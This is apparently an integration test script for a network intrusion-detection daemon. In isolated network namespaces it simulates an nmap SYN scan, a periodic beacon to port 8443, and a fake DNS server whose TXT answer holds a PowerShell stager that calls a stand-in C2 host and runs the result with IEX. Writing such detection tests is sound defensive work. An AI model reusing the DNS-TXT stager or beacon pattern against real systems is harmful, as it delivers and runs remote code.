#!/usr/bin/env bash
# test_net_daemon.sh -- the daemon's net component, live: two network
# namespaces joined by a veth pair; `vigil run` inside the second one
# captures on its end of the pair (net: {interfaces: [vbN]}), opened as
# root before the daemon drops to its account. From the first namespace
# nmap SYN-scans the second, a loop checks in on port 8443 every 2 s and a
# client asks a fake DNS server there for a TXT record whose answer holds
# PowerShell. Asserted in the store: the port scan and beacon alerts of the
# network detectors, and the alerts of the two Sigma rules of
# tests/fixtures/net/sigma (category network_connection and dns) matched
# on the flow events; in `vigil status --json` the capture's report with
# the kernel's drop counter. A SIGHUP before the traffic checks that the
# capture handle is handed to the reloaded configuration; SIGTERM at the
# end must stop every capture thread (under ASan: no leak).
# Needs root and nmap: exits 77 otherwise.
set -u
: "${VIGIL_BIN:?}"
if [ "$(id -u)" -ne 0 ]; then
    echo "SKIP: needs root for network namespaces and live capture"
    exit 77
fi
for t in ip nmap python3; do
    command -v $t >/dev/null || { echo "SKIP: $t missing"; exit 77; }
done
. "$(dirname "$0")/daemon_lib.sh" netd
ns1=vgnd-a-$$
ns2=vgnd-b-$$
va=vda$$
vb=vdb$$
pids=()
cleanup() {
    for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done
    for p in "${pids[@]}"; do wait "$p" 2>/dev/null; done
    daemon_cleanup
    ip netns del "$ns1" 2>/dev/null
    ip netns del "$ns2" 2>/dev/null
}
trap cleanup EXIT
fail() {
    echo "FAIL: $*"
    tail -30 "$T/daemon.log"
    "$VIGIL_BIN" alerts --state-dir "$T/state" --json --limit 0 | cut -c1-300
    exit 1
}

ip netns add "$ns1" && ip netns add "$ns2" || { echo "SKIP: no netns"; exit 77; }
ip link add "$va" type veth peer name "$vb" || { echo "SKIP: no veth"; exit 77; }
ip link set "$va" netns "$ns1"
ip link set "$vb" netns "$ns2"
ip -n "$ns1" addr add 10.78.0.1/24 dev "$va"
ip -n "$ns2" addr add 10.78.0.2/24 dev "$vb"
for n in "$ns1" "$ns2"; do ip -n "$n" link set lo up; done
ip -n "$ns1" link set "$va" up
ip -n "$ns2" link set "$vb" up

mkdir -p "$T/rules"
cp "$VIGIL_SOURCE_DIR"/tests/fixtures/net/sigma/*.yml "$T/rules/"
cat >"$T/vigil.yml" <<YML
state_dir: $T/state
builtin_rules: false
rules: [$T/rules]
sources: []
net:
  interfaces: [$vb]
  filter: "not port 22"
  flows: {idle_timeout: 2s}
YML

# The services in ns2: the beacon's listener and a DNS server answering
# every question with a TXT record that carries a PowerShell stager.
ip netns exec "$ns2" python3 -c '
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("10.78.0.2", 8443)); s.listen(16)
while True:
    c, _ = s.accept(); c.recv(100); c.sendall(b"ok"); c.close()
' &
pids+=($!)
ip netns exec "$ns2" python3 -c '
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("10.78.0.2", 53))
txt = b"$s=\"\"; nslookup -q=txt l.1.c2.example.test; IEX $s"
while True:
    q, a = s.recvfrom(512)
    i = 12
    while i < len(q) and q[i]:
        i += 1 + q[i]
    ans = b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 60, len(txt) + 1) + bytes([len(txt)]) + txt
    s.sendto(q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:i + 5] + ans, a)
' &
pids+=($!)

ip netns exec "$ns2" "$VIGIL_BIN" run -c "$T/vigil.yml" 2>>"$T/daemon.log" &
PID=$!
for _ in $(seq 1 100); do
    grep -q "capture thread\|net $vb: capturing" "$T/daemon.log" && break
    sleep 0.1
done
grep -q "net $vb: capturing" "$T/daemon.log" || fail "no capture started"
sleep 1
kill -0 "$PID" 2>/dev/null || fail "the daemon died"
# A reload keeps the capture: the handle cannot be opened again unprivileged.
kill -HUP "$PID"
for _ in $(seq 1 50); do
    grep -q "handed to the new configuration" "$T/daemon.log" && break
    sleep 0.1
done
grep -q "handed to the new configuration" "$T/daemon.log" ||
    fail "the reload did not hand the capture over"

ip netns exec "$ns1" python3 -c '
import socket, time
for i in range(9):
    try:
        c = socket.create_connection(("10.78.0.2", 8443), timeout=2)
        c.sendall(b"hello %d" % i); c.recv(10); c.close()
    except OSError:
        pass
    time.sleep(2)
' &
pids+=($!)
ip netns exec "$ns1" python3 -c '
import socket, struct
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
q += b"\x01l\x02c2\x07example\x04test\x00" + struct.pack(">HH", 16, 1)
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(2)
c.sendto(q, ("10.78.0.2", 53)); c.recv(512)
' || fail "the fake DNS server did not answer"
ip netns exec "$ns1" nmap -n -sS -Pn -p 1-300 -T4 10.78.0.2 >/dev/null 2>&1

alerts() { "$VIGIL_BIN" alerts --state-dir "$T/state" --json --limit 0 2>/dev/null; }
want="net.port_scan net.beacon 3f4b6c1e-8a2d-4e57-9b0c-71d2e5a9f401 9c0d2e7a-4b1f-4f6a-8e3d-25a7c9b1d602"
deadline=$((SECONDS + 60))
while :; do
    missing=""
    out=$(alerts)
    for r in $want; do
        grep -qF "\"rule_id\":\"$r\"" <<<"$out" || missing+=" $r"
    done
    [ -z "$missing" ] && break
    [ "$SECONDS" -lt "$deadline" ] || fail "alerts missing:$missing"
    sleep 1
done
grep -F '"rule_id":"net.beacon"' <<<"$out" | grep -qF '8443' ||
    fail "the beacon alert does not name port 8443"

# the capture's report is stored once a second: poll until it has caught
# up with the alerts already stored
for _ in $(seq 1 20); do
    st=$("$VIGIL_BIN" status --state-dir "$T/state" --json) || fail "status failed"
    grep -q '"net":\[{[^]]*"alerts":[2-9]' <<<"$st" && break
    sleep 0.5
done
python3 -c '
import json, sys
st = json.load(sys.stdin)
net = [n for n in st["net"] if n["interface"] == sys.argv[1]]
assert net, "no report for the interface"
n = net[0]
assert n["packets"] > 300 and n["flows"] > 300, n
assert "kernel_drops" in n and "if_drops" in n and "evicted" in n, n
assert n["alerts"] >= 2, n
src = [s for s in st["sources"] if s["name"] == "net:" + sys.argv[1]]
assert src and src[0]["events_in"] > 300 and "dropped" in src[0], src
' "$vb" <<<"$st" || fail "status: $st"
"$VIGIL_BIN" status --state-dir "$T/state" | grep -q "^$vb " ||
    fail "the status table has no capture row"

kill -TERM "$PID"
wait "$PID"
rc=$?
PID=""
[ "$rc" -eq 0 ] || fail "the daemon exited $rc at SIGTERM"
grep -q "ERROR\|AddressSanitizer\|LeakSanitizer" "$T/daemon.log" &&
    fail "errors in the daemon's log"
echo PASS
